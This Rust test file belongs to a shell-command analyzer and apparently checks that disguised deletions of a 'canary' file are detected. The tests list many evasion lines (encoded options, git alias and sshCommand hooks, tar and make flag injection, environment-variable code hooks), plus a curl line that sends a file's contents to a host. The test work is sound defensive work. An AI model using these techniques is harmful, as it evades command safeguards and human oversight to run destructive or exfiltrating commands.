//! Lines in which a shell may run `rm canary` although the line does not contain it. The deletion must be listed, or the line
//! must be an error. Most were run by Bash 5.2, or by dash where a text is given to `sh`, and deleted the file.

use crate::{all_are_listed_or_errors, all_are_unknown, lists, none_deletes, read};

#[test]
fn escapes_are_those_of_bash() {
    for line in [
        r"$'\x{72}m' canary",
        r"$'\x{0000000072}m' canary",
        r"$'\x{172}m' canary",
        r"$'\x{72m' canary",
        r"$'\562\555' canary",
        r"$'r\u006d' canary",
        r"$'rm\0x' canary",
        r"$'rm\x{100}x' canary",
        r"$'rm\400zz' canary",
        r"$'rm\u0000zz' canary",
        r"printf 'rm canar%s\n' y | bash",
    ] {
        let found = read(line).unwrap();
        assert!(
            found.contains(&vec!["rm".to_owned(), "canary".to_owned()]),
            "{line}: {found:?}"
        );
    }
    let euro = read(r"echo $'\xe2\x82\xac' $'\u20ac' $'\t'").unwrap();
    assert_eq!(euro, [["echo", "€", "€", "\t"]]);
    all_are_listed_or_errors(&[
        r"$'rm\c@zz' canary",
        r"$(printf 'r\0m') canary",
        r"$(printf '\162m') canary",
        r"printf 'ls #\0\nrm canary' | bash",
        r"printf 'x\c\nrm canary' | bash",
        r#"sh -c "echo -e '; rm canary' | sh""#,
        "sh -c \"echo -e 'x\nrm canary' | sh\"",
        "echo ${ rm canary; }",
        "echo ${(e):-'$(rm canary)'}",
    ]);
    assert!(read(r"$'\xff' canary").is_err());
    none_deletes(&[
        r#"printf '%s\n' "${PATH//:/$'\n'}""#,
        r"IFS=$'\n\t'; ls",
        r"grep -c $'\r' f",
        r"echo $'it\'s'",
    ]);
}

#[test]
fn extended_patterns_are_patterns() {
    all_are_listed_or_errors(&[
        "shopt -s extglob\n/bin/@(rm) canary",
        "shopt -s extglob\n/bin/+(r|m) canary",
        "shopt -s extglob\n/bin/!(*[!rm]*|mr) canary",
        "shopt -s extglob\nx='/bin/@(rm)'; $x canary",
        "shopt -s extglob\nx='@(rm)'\n/bin/$x canary",
        "bash -O extglob -c '/bin/@(rm) canary'",
        "time !(rm canary)",
    ]);
    none_deletes(&["shopt -s extglob\nls !(*.o)", "echo '@(a)'"]);
}

#[test]
fn subscripts_of_descriptors_are_not_read() {
    all_are_listed_or_errors(&[
        ": {a['$(rm canary)']}>x",
        r#": {a["\$(rm canary)"]}>x"#,
        "x='a[$(rm canary)]'; : {b[x]}>f",
        "exec {a['$(rm canary)']}>x",
        r": {a[$'\x24(rm canary)']}<f.txt",
    ]);
    none_deletes(&[
        "exec {fd}>log; echo x >&$fd",
        "ls {src,lib}",
        "ls {a[0-9],b}",
    ]);
}

#[test]
fn variables_that_a_shell_runs_are_found_by_any_way_to_assign_them() {
    all_are_listed_or_errors(&[
        "declare BASH_CMDS[ls]=/bin/rm; ls canary",
        "declare 'BASH_CMDS[ls]'=/bin/rm; ls canary",
        "BASH_CMDS+=([ls]=/bin/rm); ls canary",
        "declare BASH_CMDS+=([ls]=/bin/rm); ls canary",
        "declare -n q='BASH_CMDS[ls]'; q=/bin/rm; ls canary",
        "f(){ local -n q=$1; q[ls]=/bin/rm; }; f BASH_CMDS; ls canary",
        "declare -n q; for q in BASH_CMDS; do q[ls]=/bin/rm; done; ls canary",
        "typeset +x -n q=BASH_CMDS; q[ls]=/bin/rm; ls canary",
        "printf -v 'BASH_CMDS[ls]' /bin/rm; ls canary",
        "printf -vBASH_CMDS[ls] /bin/rm; ls canary",
        "x=BASH_; read \"${x}\"CMDS[ls] <<< /bin/rm; ls canary",
        "x=BASH_; declare ${x}CMDS[ls]=/bin/rm; ls canary",
        "x=BASH_; printf -v ${x}CMDS[ls] /bin/rm; ls canary",
        "read BASH_{CMDS[ls],x} <<< '/bin/rm a'; ls canary",
        "shopt -s expand_aliases; declare BASH_ALIASES[ls]=rm\nls canary",
        "ENV='$(rm canary)' sh -i -c :",
        "export ENV='$(rm canary)'; sh -i -c :",
        "env ENV='`rm canary`' dash -i -c :",
        "ENV='$(rm canary)' bash --posix -i -c :",
        "bash --init-file /dev/fd/3 -i -c : 3<<< 'rm canary'",
        "bash --rcfile /proc/self/fd/3 -i -c : 3<<< 'rm canary'",
        r"PS4='\044(rm canary)' bash -xc :",
        r"PS4='\140rm canary\140' bash -xc :",
        "x='$(rm canary)' PS4='${x@P}' bash -xc :",
        // a folder with an `ls` of its own
        "for PATH in .; do ls; done",
        "printf -vPATH %s \"$PWD\"; ls",
        "read PATH <<< .; ls",
    ]);
    for line in [
        "for PATH in .; do ls; done",
        "printf -vPATH %s .; ls",
        "read -r PATH <<< .; ls",
    ] {
        assert!(read(line).is_err(), "{line}");
    }
    none_deletes(&[
        "ENV=production npm start",
        "PS1='\\u@\\h \\$ '; PS4='+ ${LINENO}: '; set -x; ls",
        "read -rp \"$msg\" name; echo \"$name\"",
        "printf 'PATH %s\\n' \"$PATH\"",
        "declare -A m; m[a]=1",
        "make & wait $!",
    ]);
}

#[test]
fn subscripts_may_run_what_a_program_printed() {
    all_are_listed_or_errors(&[
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); printf -v \"y[$x]\" 1",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); printf -v\"y[$x]\" 1",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); builtin read \"y[${x}]\" <<< 1",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); declare \"y[$x]=1\"",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); declare -a y=\"($x)\"",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); declare -a \"y=(a $x)\"",
        "x=$(base64 -d <<< JChybSBjYW5hcnkp); y=(1); unset \"y[$x]\"",
        "read \"y[$(base64 -d <<< JChybSBjYW5hcnkp)]\" <<< 1",
    ]);
    none_deletes(&[
        "x=$(date); printf \"[$x]\\n\"",
        "x=$(git rev-parse HEAD); export \"V=$x\"",
        "x=$(ls | wc -l); read \"y[$x]\" <<< 1",
    ]);
}

#[test]
fn env_splits_and_assigns_as_it_does() {
    all_are_listed_or_errors(&[
        r"env -S $'rm\fcanary'",
        r"env -S $'rm\vcanary'",
        r"env -S $'-i\frm\rcanary'",
        r"env -S 'rm\_canary'",
        "env a-b=c rm canary",
        "env ./x=y rm canary",
        "env /bin/x=y rm canary",
        "env 'a b=c' rm canary",
        "env é=c rm canary",
        "x=$(base64 -d <<< YT0=); env \"$x/ls\" rm canary",
    ]);
    none_deletes(&[
        "env -i A=1 B='x y' ls",
        "sudo A=b make",
        "env FOO=a \"$HOME/bin/x\" y",
    ]);
}

/// Dash reads these lines differently from Bash; so may any shell that is not known to be Bash.
#[test]
fn texts_for_other_shells_are_read_as_all_shells_do() {
    all_are_listed_or_errors(&[
        "sh -c '((rm canary))'",
        "sh -c '( (rm canary) )'",
        "sh -c '[[ a || rm == canary ]]'",
        "sh -c '[[ b > canary ]]; rm canary'",
        "sh -c \"echo \\$'\\\\'; rm canary #'\"",
        "sh <<'E'\n((rm canary))\nE",
        "echo '((rm canary))' | sh",
        "sh -c 'echo $[ 1; rm canary ]'",
        "sh -c 'echo a &>x rm canary'",
        "sh -c 'timeout 10>f rm canary'",
        "sh -c 'env {a=1,ls} rm canary'",
        "dash -c '((rm canary))'",
        "busybox sh -c '((rm canary))'",
        "env sh -c '((rm canary))'",
        "find . -maxdepth 0 -exec sh -c '((rm canary))' \\;",
        "watch -n1 '((rm canary))'",
        "git -c alias.x='!((rm canary))' x",
        "flock f -c '((rm canary))'",
        "xargs -I{} sh -c '((rm canary))' <<< a",
        "bash -c \"sh -c '((rm canary))'\"",
        "sh -c \"bash -c '((1))'; ((rm canary))\"",
        "sh -c 'eval \"((rm canary))\"'",
        "sh -c \"trap '((rm canary))' EXIT\"",
        "csh -c 'echo \"\\\"; rm canary #\"'",
        "fish -c \"echo '\\\\''; rm canary #'\"",
        "fish -c 'and rm canary'",
    ]);
    none_deletes(&[
        "sh -c 'echo \"$((1))\"; for i in 1 2; do echo $i; done; [ -f x ] && ls || true'",
        "sh -c 'cd /srv && make 2>&1 | tail -5 > log; case x in a) ls;; esac'",
        "ssh host \"cd /srv && docker compose up -d && docker ps --format '{{.Names}}'\"",
        "bash -c '[[ -f x ]] && echo {a,b} <(ls)'",
        "bash <<'E'\n((1))\nE",
        "eval '[[ -f x ]]'",
    ]);
}

#[test]
fn any_word_may_be_an_assignment_after_set_k() {
    all_are_listed_or_errors(&[
        "set -k; bash -c : BASH_ENV='$(rm canary)'",
        "set -o keyword; bash -c : BASH_ENV='$(rm canary)'",
        "set -euxo keyword; bash -c : BASH_ENV='$(rm canary)'",
        "bash -kc 'bash -c : BASH_ENV=$0' '$(rm canary)'",
        "bash -o keyword -c 'bash -c : BASH_ENV=$0' '$(rm canary)'",
        "env SHELLOPTS=keyword bash -c 'bash -c : BASH_ENV=$0' '$(rm canary)'",
    ]);
    none_deletes(&["set -euo pipefail; ls", "set -- -k x; ls"]);
}

/// The line may write a file, by some means and in some order, and also runs it.
#[test]
fn files_that_a_line_writes_and_runs_are_unknown() {
    for line in [
        "f() { bash s; }; echo rm canary > s; f",
        "trap 'bash s' EXIT; echo rm canary > s",
        "for i in 1 2; do bash s; echo rm canary > s; done",
        "i=0; until [ $i -gt 1 ]; do ./s; i=$((i+1)); cp t s; done",
        "(sleep 0.1; bash s) & echo rm canary > s; wait",
        "while :; do bash s; break; done < <(echo rm canary > s)",
        "mkfifo p; bash p & echo rm canary > p; wait",
        "coproc bash s; echo rm canary > s",
        "{ sleep 0.1; bash s; } | echo rm canary > s",
        "f() { echo rm canary > $1; }; f s; . ./s",
        "for x in s; do echo rm canary > $x; done; . ./s",
        "read x <<< s; echo rm canary > \"$x\"; ./s",
        "read x <<< s; echo rm canary | tee ./\"$x\"; bash s",
        "read x <<< a; echo rm canary > \"$x.sh\"; bash a.sh",
        "echo rm canary > s; ENV=s sh -i -c :",
        "echo rm canary | shuf -o s; bash s",
        "sort -os t; bash s",
        "uniq t s; bash s",
        "echo rm canary | uniq - s; bash s",
        "history -w s; bash s",
        "printf '%s\\n' a 'rm canary' . 'w s' | ed; bash s",
        "ed <<E\na\nrm canary\n.\nw s\nE\nbash s",
        "git apply p; bash s",
        "git checkout-index -a; ./s",
        "install t s -m 755; ./s",
        "cp t s -S b; ./s",
        "logsave s echo rm canary; bash s",
        "sed -n 'w s' t; ./s",
        "find . -name s -exec bash {} \\; -exec cp t s \\;; bash s",
    ] {
        assert!(read(line).is_err(), "{line}: {:?}", read(line));
    }
    none_deletes(&[
        "chmod +x run.sh && ./run.sh",
        "./run.sh; cp run.sh old.sh",
        "bash run.sh > run.log 2>&1; tail run.log",
        "./run.sh; git add run.sh && git commit -m x",
        "gcc -o app main.c && ./app",
        "go build -o bin/app . && ./bin/app --help",
        "git clone https://example.org/app && cd app && ./configure",
        "tar xzf a.tgz && ./a/configure --prefix=/tmp",
        "cp run.sh backup.sh && ./run.sh",
        "shellcheck run.sh && bash run.sh",
        "for i in 1 2 3; do ./bench > out.txt; done",
        "for f in a b; do ./conv $f > $f.log; done",
        "make test 2>&1 | tee test.log",
        "npm run build & ./serve.sh; wait",
        "gdb -batch -ex run --args ./app --flag",
        "ls *.sh | head -3; ./a.sh | tee a.log",
    ]);
}

/// The path of a descriptor opens its file again, possibly for writing.
#[test]
fn files_of_descriptors_are_not_guessed() {
    for line in [
        "echo x 2<canary >/dev/stderr",
        "cat list 1<canary >/dev/stdout",
        "{ echo x >/dev/stderr; } 2<canary",
        "exec 3<canary; echo x > /dev/fd/3",
        "exec 4<canary 3<&4; echo x > /proc/self/fd/3",
        "echo x <canary 2>&0 >/dev/stderr",
        "echo x <canary >/dev/stdin",
        "echo x | tee /dev/fd/3 3<canary",
        "{ tee /dev/stdin <<< x; } < canary",
    ] {
        assert!(read(line).is_err(), "{line}: {:?}", read(line));
    }
    let socket = read("cat f 5</dev/tcp/example.org/80 >&5").unwrap();
    assert!(socket.contains(&vec!["<>".to_owned(), "/dev/tcp/example.org/80".to_owned()]));
    none_deletes(&[
        "echo x > /dev/stderr",
        "make 2>&1 | tee /dev/stderr | grep error",
        "exec 3< list; read -u 3 x; exec 3<&-",
        "cat f | wc -l /dev/stdin",
        "while read -r l <&3; do echo \"$l\"; done 3< list",
    ]);
}

/// An option that the text does not determine may be one that runs a command.
#[test]
fn options_that_come_from_expansions_are_unknown() {
    all_are_listed_or_errors(&[
        "find . ${nope:--exec} rm canary ';'",
        "find . \"${x:--exec}\" rm {} +",
        "x=-exec; find . ${x} rm {} +",
        "for o in -exec; do find . $o rm {} +; done",
        "find . -maxdepth 0 -exe? rm canary ';'",
        "find . -maxdepth 0 *exec rm canary ';'",
        "find . -maxdepth 0 -{exec,print} rm canary ';'",
        "x=$(base64 -d <<< LWV4ZWM=); find . \"$x\" rm canary ';'",
        "x=$(base64 -d <<< LWV4ZWM=); find \"$x\" rm canary ';'",
        "scp -R \"${x:--oProxyCommand=rm canary}\" a h:",
        "vim -e -s \"${x:--c}\" '!rm canary'",
        "find . $(base64 -d <<< LWV4ZWM=) rm canary ';'",
        "read x <<< -exec; find . \"$x\" rm canary ';'",
        "f() { find . \"$1\" rm canary ';'; }; f -exec",
        "git ${nope:--c} alias.x='!rm canary' x",
        "git \"${nope:--c}\" alias.x='!rm canary' x",
        "read o <<< -c; git \"$o\" alias.x='!rm canary' x",
        "git rebase ${x:--x} 'rm canary' main",
        "find . -maxdepth ${y:-0 -exec rm canary ;}",
        "x=${x:-0 -exec rm canary ;}; find . -maxdepth $x",
        "x=\"$(pwd) -exec rm canary ;\"; find . -maxdepth $x",
        "cd -- '0 -exec rm canary ;'; find . -maxdepth $(pwd)",
        "IFS=:; x=$HOME:-exec:rm:canary; find . $x ';'",
        "tar cf x --checkpoint=1 --checkpoint-action=\"${y:-exec=rm canary}\" f",
        "tar --to-comm='rm canary' -xf f",
        "sort --compress='rm canary' f",
        "git rebase --exe='rm canary' x",
        "git rebase --exe 'rm canary' x",
        "git grep --open-files='rm canary' x",
        "git fetch --upload-pa='rm canary' x",
        "ssh -o \"${y:-ProxyCommand=rm canary}\" h",
        "tar ${x:--I} 'rm canary' -xf f",
        "tar \"${x:---to-command}=rm canary\" -xf f",
        "touch -- '--checkpoint=1' '--checkpoint-action=exec=sh s'; tar cf a.tar *",
        "base64 -d <<< eA== | xargs tar xf a.tar",
        "rsync ${x:--e} 'rm canary' a h:b",
        "sort ${x:---compress-program=rm} f",
        "split ${x:---filter=rm canary} f",
        "man ${x:--P} 'rm canary' ls",
        "vim \"${x:--c}\" '!rm canary'",
    ]);
    // options that write or send
    for line in [
        "sort ${x:--ocanary}* list",
        "find \"${x:--delete}\" -name y",
        "x=a-ocanary; sort ${x:1} list",
        "x=(-ocanary list); sort ${x[@]}",
        "o=(-T canary); curl ${o[@]} u",
        "base64 -d <<< LVQgYw== | xargs curl u",
    ] {
        assert!(read(line).is_err(), "{line}: {:?}", read(line));
    }
    let loops = read("for o in -ocanary; do sort $o list; done").unwrap();
    assert!(loops.contains(&["sort", "-ocanary", "list"].map(str::to_owned).to_vec()));
    let sent = read("x=$(cat canary); y=$x; curl \"http://h/$y\"").unwrap();
    assert!(
        sent.contains(
            &["curl", "http://h/$(cat canary)"]
                .map(str::to_owned)
                .to_vec()
        )
    );
    none_deletes(&[
        "find \"$(git rev-parse --show-toplevel)\" -name '*.rs'",
        "d=$(mktemp -d); find \"$d\" -type f | wc -l",
        "for d in */; do find \"$d\" -name '*.c' | wc -l; done",
        "n=$(cat name); find . -name \"$n\" -print",
        "find . -name *.c -o -name *.h",
        "for f in *.tgz; do tar xzf \"$f\"; done",
        "b=$(git branch --show-current); git push -u origin \"$b\"",
        "git checkout \"$(git describe --tags)\"",
        "git rebase \"$(git merge-base main HEAD)\"",
        "f=$(ls -t *.tgz | head -1); tar -xzf \"$f\" -C \"$HOME/x\"",
        "src=$(pwd); rsync -a \"$src/\" backup/",
        "find $(pwd) -name '*.c'",
        "tar czf $(date +%F).tgz --checkpoint=100 --exclude=.git src",
        "sort -k 2 --reverse f | tar --totals -cf - src",
        "sort \"$(ls *.txt | head -1)\" *.log",
        "curl -fsSL \"$URL\" -o \"$(basename \"$URL\")\"",
        "curl \"${URL:-http://localhost:3000}/health\"",
        "BASE=${BASE:-http://localhost}; curl \"$BASE/health\"",
        "tar czf src.tgz -- *",
    ]);
}

/// Settings of `git` that a line gives or keeps, in whatever form, and files of settings that it writes.
#[test]
fn settings_of_git_are_followed_or_unknown() {
    all_are_listed_or_errors(&[
        "git -c alias.x='!env' x rm canary",
        "git -c alias.x='!sh -c' x 'rm canary'",
        "git -c alias.x='-c alias.y=\"!rm canary\" y' x",
        "Q='!rm canary' git --config-env=alias.x=Q x",
        "git --config-env alias.x=Q x",
        "git config --global alias.x '!rm canary'; git x",
        "git config set alias.x '!rm canary'",
        "git config alias.x '!env'; git x rm canary",
        "for i in 1 2; do git x rm canary; git config alias.x '!env'; done",
        "git config --file c alias.x '!rm canary'",
        "git -c include.path=c x",
        "git -c \"core.${y:-pager}=rm canary\" log",
        "git config \"alias.${y:-x}\" '!rm canary'",
        "git -c url.'ext::rm canary'.insteadOf=x fetch x",
        "GIT_CONFIG_GLOBAL=c git x",
        "git config core.pager 'rm canary'; git log",
        "git -c core.fsmonitor='rm canary' status",
        "git -c filter.x.clean='rm canary' add .",
        "git -c diff.x.textconv='rm canary' diff",
        "git -c merge.x.driver='rm canary' merge b",
        "git -c difftool.x.cmd='rm canary' difftool",
        "git -c credential.https://x.helper='!rm canary' fetch",
        "git -c CORE.SSHCOMMAND='rm canary' fetch",
        "git -c remote.origin.uploadpack='rm canary;' fetch",
        "git clone -c core.sshCommand='rm canary' ssh://h/x",
        "git clone --config core.sshCommand='rm canary' ssh://h/x",
        "git -c protocol.ext.allow=always clone ext::'rm canary'",
        "git clone ext::rm% canary x",
        "git --exec-path=. x",
        "git --git-dir=x -c alias.x='!rm canary' x",
        "printf '[alias]\\nx=!rm canary\\n' >> .git/config; git x",
        "printf '[alias]\\nx=!rm canary\\n' > ~/.gitconfig; git x",
        "echo rm canary > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit",
        "cd .git; printf '[alias]\\nx=!rm canary\\n' > config; git x",
        "sed -i 's/a/!rm canary/' .git/config; git x",
        "cp hook .git/hooks/; git commit",
        "echo rm canary > s; GIT_SSH=./s git fetch",
        "echo rm canary > s; export EDITOR=./s; git commit",
        "echo rm canary > s; SHELL=$PWD/s script",
    ]);
    none_deletes(&[
        "git config --global alias.lg 'log --oneline --graph'",
        "git config user.name \"$NAME\" && git commit -m x",
        "git config --get core.editor",
        "git config --global core.editor vim",
        "git config core.hooksPath .githooks",
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c user.name=a -c user.email=\"$MAIL\" commit -m 'b c'",
        "GIT_CONFIG_GLOBAL=/dev/null git status",
        "GIT_EDITOR=true git rebase --continue",
        "git clone -c core.autocrlf=false https://example.org/a",
        "git commit -m 'text::x and ext::y'",
        "echo build >> .git/info/exclude; git status",
        "cat > src/hooks/use.ts <<< x; git add -A",
    ]);
}

/// What a loop or a call says is followed: its words, its parameters.
#[test]
fn loops_and_functions_are_followed() {
    for (line, command) in [
        ("for x in rm; do $x canary; done", &["rm", "canary"][..]),
        ("for x in ls r{m,x}; do $x canary; done", &["rm", "canary"]),
        ("run() { \"$@\"; }; run rm canary", &["rm", "canary"]),
        ("run() { $1 canary; }; run rm", &["rm", "canary"]),
        (
            "for h in a b; do ssh \"$h\" 'rm canary'; done",
            &["rm", "canary"],
        ),
        (
            "run() { \"$@\"; }; f() { run rm canary; }; f",
            &["rm", "canary"],
        ),
    ] {
        let found = read(line).unwrap();
        let command: Vec<String> = command.iter().map(|word| (*word).to_owned()).collect();
        assert!(found.contains(&command), "{line}: {found:?}");
    }
    for line in [
        // who calls it is not seen
        "f() { g rm canary; }; g() { \"$@\"; }; f",
        "while :; do g rm canary; g() { \"$@\"; }; done",
        "trap 'g rm canary' EXIT; g() { \"$@\"; }",
        "g() { \"$@\"; }; trap 'g rm canary' EXIT",
        "g() { \"$@\"; }; eval 'g rm canary'",
        "g() { echo; }; f() { g rm canary; }; g() { \"$@\"; }; trap f EXIT",
        "f() { g rm canary; }; trap f EXIT; eval 'g() { \"$@\"; }'",
        "bash -c 'g() { \"$@\"; }'",
        "command_not_found_handle() { $2 canary; }; nosuch rm",
        "/bin/ls() { \"$@\"; }; /bin/ls rm canary",
        "g() { \"$@\"; }; g \"$(cat f)\"",
        "g() { shift; \"$@\"; }; g a rm canary",
        "for x in $(cat f); do $x canary; done",
        "for x in *; do $x canary; done",
        "for x in ls; do read x <<< rm; $x canary; done",
        "while :; do $x canary; for x in ls; do :; done; done",
        "eval \"$(ssh-agent echo rm canary)\"",
        "ssh-agent() { echo rm canary; }; eval \"$(ssh-agent -s)\"",
        "PATH=.:$PATH; eval \"$(ssh-agent -s)\"",
    ] {
        let found = read(line);
        assert!(
            found.as_ref().map_or(true, |found| lists(found, "rm")),
            "{line}: {found:?}"
        );
    }
    none_deletes(&[
        "for h in web1 web2; do ssh \"$h\" 'uptime; df -h /'; done",
        "run() { echo \"+ $*\"; \"$@\"; }; run make test; run git status",
        "retry() { for i in 1 2 3; do \"$@\" && return 0; sleep 1; done; return 1; }; retry npm ci",
        "eval \"$(ssh-agent -s)\" && ssh-add ~/.ssh/id_ed25519",
        "eval \"$(pyenv init -)\" && pyenv local 3.12",
        "for v in 3.10 3.11; do for d in a b; do tox -e \"py$v-$d\"; done; done",
    ]);
}

#[test]
fn the_shell_of_a_user_is_any_program() {
    all_are_listed_or_errors(&[
        "su root -s /bin/rm -- -rf canary",
        "su --shell=/bin/rm root -- -rf canary",
        "su --shell /bin/rm root -- -rf canary",
        "su -s /bin/rm - root -- -rf /tmp/canary",
        "su -ms /bin/rm root -- -rf canary",
        "runuser -s/bin/rm root -- -r canary",
        "runuser -l -s /bin/rm root -- -r canary",
        "x=/bin/rm; su -s $x root -- -rf canary",
        "su -s \"$1\" root -- -rf canary",
        "su -s /bin/rm root -c -rf -- canary",
        "SHELL=/bin/rm su -m root -- -rf canary",
        "SHELL=/bin/rm su -p root -- -rf canary",
        "export SHELL=/bin/rm; runuser -m root -- -rf canary",
        "env SHELL=/bin/rm runuser -m root -- -rf canary",
        "SHELL=$(printf /bin/rm) su -m root -- -rf canary",
        "su root -s /usr/bin/env -- rm -rf canary",
        "su root -s /usr/bin/find -- canary -exec rm {} +",
        "su root -s /usr/bin/xargs -- rm -rf canary",
        "su root -s /bin/bash -c 'rm -rf canary'",
        "su - root -c 'rm -rf canary'",
        r#"SHELL=/usr/bin/python3 flock c -c $'1<<2\nimport shutil;shutil.rmtree("canary")\n2'"#,
        "export SHELL=/usr/bin/perl; script -qc 'unlink \"canary\"' /dev/null",
    ]);
    none_deletes(&[
        "su -s /bin/bash postgres -c 'psql -l'",
        "su - postgres -c 'createdb x'",
        "runuser -u app -- ./manage.py migrate",
        "su -s /usr/sbin/nologin app",
        "export SHELL=/bin/zsh; script -qc 'ls' /dev/null",
        "SHELL=${SHELL:-} tmux new -d",
        "SHELL=$(which zsh) tmux",
        "export SHELL=\"$(command -v bash)\"",
        "env SHELL=\"$SHELL\" screen -dm top",
    ]);
}

#[test]
fn values_in_recipes_are_not_followed() {
    all_are_listed_or_errors(&[
        "touch x.c; make '.SHELLFLAGS=-c \"rm -rf canary\"' x.o",
        r"touch x.c; MAKEFLAGS='CC=rm\ -rf\ canary;' make x.o",
        r"touch x.c; MAKEFLAGS='-- CC=rm\ -rf\ canary;' make x.o",
        "touch x.c; CPPFLAGS='$$(rm -rf canary)' make x.o",
        "touch x.c; make 'CFLAGS=; $(RM) -r canary;' x.o",
        "touch x.c; CFLAGS='; $(RM) -r canary;' make x.o",
        "export CFLAGS='; $(RM) -r canary;'; make x.o",
        "env LDLIBS='; rm -r canary' make x",
        "env 'COMPILE.c=rm -r canary;' make x.o",
        "make 'TARGET_ARCH=`rm -r canary`' x.o",
        "make 'ARFLAGS=$$(rm -r canary)' x.a",
        "make 'FOO=x|rm -r canary' x",
        "touch x.c; CFLAGS=\"; rm -rf canary; $HOME\" make x.o",
        "touch x.c; CFLAGS=\"; rm -rf canary; $(date)\" make x.o",
        "touch x.c; export CFLAGS=\"; rm -rf canary; $(date)\"; make x.o",
        "touch x.c; env CFLAGS=\"; rm -rf canary; $HOME\" make x.o",
        "touch x.c; x=\"; rm -rf canary; $(date)\"; CFLAGS=\"$x\" make x.o",
        "touch x.c; x=\"; rm -rf canary; $(date)\"; y=$x; make CFLAGS=\"$y\" x.o",
        "touch x.c; CFLAGS=\"${y:-; rm -rf canary;}\" make x.o",
        "touch x.c; CFLAGS='$(CC:cc=; rm -rf canary;)'\"$HOME\" make x.o",
        "touch x.c; make 'CFLAGS=$(eval X:=1)'\"$HOME\" x.o",
        r#"touch x.c; MAKEFLAGS="CC=rm\ -rf\ canary; $HOME" make x.o"#,
        "MAKEFLAGS=\"--eval=x:;rm -rf canary $HOME\" make x",
    ]);
    none_deletes(&[
        "MAKEFLAGS=-j8 make",
        "MAKEFLAGS=\"-j$(nproc) --output-sync=target\" make all",
        "CFLAGS='-O2 -g -DX=\"a b\"' make",
        "make CFLAGS=\"-O2 $(pkg-config --cflags zlib)\" LDLIBS=-lz",
        "make VERBOSE=1 PREFIX=$HOME/.local install",
        "make test ARGS='--filter a.b -v'",
        "make VERSION=\"$(git describe | sed s/v// | tr -d ';')\" all",
        "make VERSION=\"$(git describe --tags 2>&1)\" all",
        "v=$(git describe 2>/dev/null || echo none); make VERSION=\"v$v\" all",
        "CFLAGS=\"-O2 $(pkg-config --cflags zlib 2>/dev/null; true)\" make",
        "MAKEFLAGS='V=1 -j4' make",
    ]);
}

#[test]
fn variables_that_hold_code_are_not_followed() {
    all_are_listed_or_errors(&[
        "PERL5DB='BEGIN { system \"rm -rf canary\" }' perl -d x.pl",
        "PERL5OPT='-Mstrict;system(q(rm -rf canary))' perl x.pl",
        "NODE_OPTIONS='--import data:text/javascript,x' node x.js",
        "LESSKEY_CONTENT='#env;LESSOPEN=|rm -rf canary' less x",
        "export JAVA_TOOL_OPTIONS='-XX:OnError=rm -rf canary'; java X",
        "_JAVA_OPTIONS=\"-XX:OnOutOfMemoryError=rm\\ -rf\\ canary $HOME\" java X",
        "SHELL=/usr/bin/fish flock lock -c 'rm -rf canary'",
    ]);
    none_deletes(&[
        "PERL5OPT=-Mstrict perl x.pl",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "JAVA_TOOL_OPTIONS=\"-Xmx2g -Duser.dir=$PWD\" mvn -q test",
    ]);
}

#[test]
fn what_less_begins_with_is_known() {
    all_are_listed_or_errors(&[
        r"LESS=$'+!rm -rf canary\n' less c",
        "LESS='-R +!rm canary' less c",
        "export LESS='-R+|rm canary'; man ls",
        "LESS=\"$(cat f)\" less c",
    ]);
    none_deletes(&[
        "LESS=-R git log",
        "LESS='-FRX +G' less log",
        "export LESS=\"$LESS -R\"",
        "LESS=+F less log",
    ]);
}

#[test]
fn names_that_are_chosen_at_run_time_are_not_known() {
    all_are_unknown(&[
        "x=ls; y=x; : ${!y:=rm}; $x -rf a",
        "x=ls; y=x; z=${!y=rm}; $x -rf a",
        "x=ls; set x; : \"${!1:=rm}\" ${!#=rm}; $x -rf a",
        "x=ls; y=(x); : ${!y[0]:=rm}; $x -rf a",
        "set PS4; : ${!1:='$(rm a)'}; set -x; :",
        "x=ls; y=x; printf \"-v$y\" rm; $x -rf a",
        "x=ls; y=x; read -r\"a$y\" <<< rm; $x -rf a",
        "x=ls; y=x; printf '%n' $y; $x -rf a",
        "x=ls; y=x; coproc $y [[ a ]]; $x -rf a",
        "x_PID=ls; coproc x { :; }; $x_PID -rf a",
        "ksh -c 'x=ls; nameref y=x; y=rm; $x -rf a'",
    ]);
    none_deletes(&[
        "x=ls; printf '%s\\n' -n; $x",
        "x=ls; echo ${!PATH@} ${!y%=}; $x",
    ]);
}

#[test]
fn texts_that_run_in_a_shell_change_its_parameters() {
    all_are_unknown(&[
        "bash -c 'trap shift ERR; false; \"$@\"' _ echo rm a",
        "bash -c 'trap \"set -- rm a\" DEBUG; \"$@\"' _ ls",
        "bash -c 'mapfile -c1 -C \"shift;:\" x <<< y; \"$@\"' _ echo rm a",
        "sh -c 'trap shift USR1; kill -USR1 $$; \"$@\"' _ echo rm a",
        "f() { trap 'set rm' ERR; false; $1 a; }; f ls",
        "bash -s echo rm a <<< 'trap shift ERR; false; \"$@\"'",
    ]);
    none_deletes(&[
        "bash -c 'trap \"echo failed\" ERR; \"$@\"' _ make",
        "bash -c 'mapfile -t x < f; \"$@\"' _ ls",
    ]);
}

#[test]
fn another_operand_of_tee_may_be_its_output() {
    let text = "printf '%s' 'echo rm a; b='";
    for path in [
        "/dev/stdout",
        "/dev/fd/1",
        "../dev/stdout",
        "-a o",
        "o /dev/null",
    ] {
        all_are_unknown(&[&format!("{text} | tee {path} | sh")]);
    }
    all_are_unknown(&["ln -s /dev/stdout o; echo 'rm a' | tee o | bash"]);
    none_deletes(&[
        "echo ls | tee | bash",
        "echo ls | tee /dev/null | sh",
        "echo x | tee log",
    ]);
}
